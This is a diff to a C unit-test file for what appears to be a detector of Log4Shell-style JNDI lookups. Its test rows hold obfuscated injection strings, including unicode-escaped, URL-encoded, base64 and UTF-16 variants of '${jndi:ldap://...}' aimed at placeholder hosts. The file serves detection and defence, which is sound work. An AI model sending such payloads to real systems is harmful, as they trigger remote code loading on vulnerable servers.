@@ -80,6 +80,11 @@ static const struct {
     {FIELD_XML, "<a>&#36;{jndi:ldap://h.example/a}</a>", NAME},
     {FIELD_PLAIN, "${ never closed\r\nX: ${jndi:ldap://h.example/a}", NAME},
     {FIELD_PLAIN, "${jndi:ldap://h.example/a} and ${jndi:rmi://k/b}", NAME " rmi://k/b"},
+    {FIELD_PLAIN, "{\"a\":\"${\\u006andi:ldap://h.example/a}\"}", NAME}, /* JSON under a wrong label */
+    {FIELD_PLAIN, "${\\u006andi:ldap://h.example/a}", ""},                /* nothing here undoes an escape */
+    {FIELD_PLAIN, "${jn%64i:ldap://h.example/a}", NAME},
+    {FIELD_COOKIE, "a=b; c=${jndi:ldap://h/a%3bx}", "ldap://h/a;x"},
+    {FIELD_COOKIE, "a=b; c=${jndi:ldap://h/a;x}", "ldap://h/a;x"},
     {FIELD_PLAIN, "${jndi:ldap://h/%41}", "ldap://h/%41"},
     {FIELD_URI, "/${jndi:ldap://h/%41}", "ldap://h/A"},
     {FIELD_PLAIN, "`${location.protocol}//${location.host}/jndi`", ""},
@@ -94,7 +99,7 @@ static void lookups_are_found_under_their_encodings(void **state)
     (void)state;
     for (size_t i = 0; i < sizeof rows / sizeof *rows; i++) {
         struct found f = {0};
-        bool spent, found = resolver_run(resolver, bytes_str(rows[i].text), rows[i].coding, on_resolved, &f, &spent);
+        bool spent, found = resolver_run(resolver, bytes_str(rows[i].text), rows[i].coding, true, on_resolved, &f, &spent);
 
         assert_int_equal(found, f.n > 0);
         /* A JSON body with an escaped lookup in one value and an expression in another is inert value by value, and
@@ -104,19 +109,52 @@ static void lookups_are_found_under_their_encodings(void **state)
     }
 }
 
+/* While more may come, a reading that is still open keeps others from speaking too early. */
+static void half_a_text_waits(void **state)
+{
+    struct bytes half = BYTES_LIT("{\"a\":\"${jndi:\\u006cdap://\\u0024{lower:H}"); /* "}" ends the raw reading only */
+    struct found f = {0};
+    bool spent;
+
+    (void)state;
+    assert_false(resolver_run(resolver, half, FIELD_JSON, false, on_resolved, &f, &spent));
+    assert_true(resolver_run(resolver, half, FIELD_JSON, true, on_resolved, &f, &spent));
+    f = (struct found){0};
+    half = BYTES_LIT("{\"a\":\"${jndi:\\u006cdap://\\u0024{lower:H}/a}");
+    assert_true(resolver_run(resolver, half, FIELD_JSON, false, on_resolved, &f, &spent));
+    assert_string_equal(f.names, "ldap://h/a");
+}
+
+static void wide_text_is_read(void **state)
+{
+    static const char narrow[] = "{\"a\":\"${j\\u006edi:ldap://h/a}\"}";
+    uint8_t wide[2 * sizeof narrow];
+    struct found f = {0};
+    bool spent;
+
+    (void)state;
+    for (size_t i = 0; i < sizeof narrow - 1; i++) {
+        wide[2 * i] = (uint8_t)narrow[i];
+        wide[2 * i + 1] = 0;
+    }
+    assert_true(resolver_run(resolver, bytes_of(wide, 2 * (sizeof narrow - 1)), FIELD_JSON, true, on_resolved, &f, &spent));
+    assert_string_equal(f.names, "ldap://h/a");
+    assert_int_equal(f.layers, 1 << UNWRAP_UTF16 | 1 << UNWRAP_JSON);
+}
+
 static void layers_are_told(void **state)
 {
     struct found f = {0};
     bool spent;
 
     (void)state;
-    resolver_run(resolver, BYTES_LIT("%2524%257Bjndi:ldap://h/a}"), FIELD_PLAIN, on_resolved, &f, &spent);
+    resolver_run(resolver, BYTES_LIT("%2524%257Bjndi:ldap://h/a}"), FIELD_PLAIN, true, on_resolved, &f, &spent);
     assert_int_equal(f.layers, 1 << UNWRAP_URL);
     f = (struct found){0};
-    resolver_run(resolver, BYTES_LIT("JHtqbmRpOmxkYXA6Ly9oLmV4YW1wbGUvYX06eA=="), FIELD_PLAIN, on_resolved, &f, &spent);
+    resolver_run(resolver, BYTES_LIT("JHtqbmRpOmxkYXA6Ly9oLmV4YW1wbGUvYX06eA=="), FIELD_PLAIN, true, on_resolved, &f, &spent);
     assert_int_equal(f.layers, 1 << UNWRAP_BASE64);
     f = (struct found){0};
-    resolver_run(resolver, BYTES_LIT("${jndi:ldap://h/a}"), FIELD_URI, on_resolved, &f, &spent);
+    resolver_run(resolver, BYTES_LIT("${jndi:ldap://h/a}"), FIELD_URI, true, on_resolved, &f, &spent);
     assert_int_equal(f.layers, 0);
 }
 
@@ -133,8 +171,8 @@ static void hostile_texts_end(void **state)
 
         while (buf_add_str(&text, units[i]))
             ;
-        for (unsigned coding = FIELD_PLAIN; coding <= FIELD_XML; coding++)
-            resolver_run(resolver, buf_bytes(&text), (enum field_coding)coding, on_resolved, &f, &spent);
+        for (unsigned coding = FIELD_PLAIN; coding <= FIELD_COOKIE; coding++)
+            resolver_run(resolver, buf_bytes(&text), (enum field_coding)coding, true, on_resolved, &f, &spent);
         buf_drop(&text);
     }
 }
@@ -143,6 +181,8 @@ int main(void)
 {
     const struct CMUnitTest tests[] = {
         cmocka_unit_test(lookups_are_found_under_their_encodings),
+        cmocka_unit_test(half_a_text_waits),
+        cmocka_unit_test(wide_text_is_read),
         cmocka_unit_test(layers_are_told),
         cmocka_unit_test(hostile_texts_end),
     };
